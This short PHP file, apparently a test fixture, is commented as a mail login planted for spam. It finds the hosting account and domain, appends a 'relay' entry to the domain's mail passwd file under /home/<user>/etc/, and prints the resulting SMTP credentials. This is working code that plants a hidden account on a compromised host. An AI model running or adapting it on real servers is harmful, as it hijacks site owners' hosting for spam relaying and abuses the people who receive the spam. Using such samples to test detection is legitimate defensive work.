<?php
// a mail login planted for spam, its path built in steps: the account's folder first,
// then the domain's passwd file appended (written for the tests, never run)
$user = get_current_user();
$domain = preg_replace('/^www\./', '', $_SERVER['SERVER_NAME']);
$store = "/home/$user/etc/";
$store .= $domain . '/passwd';
file_put_contents($store, "relay:x:1000:1000::/home/$user/mail/$domain/relay:/bin/false\n", FILE_APPEND);
echo "$domain|587|relay@$domain";
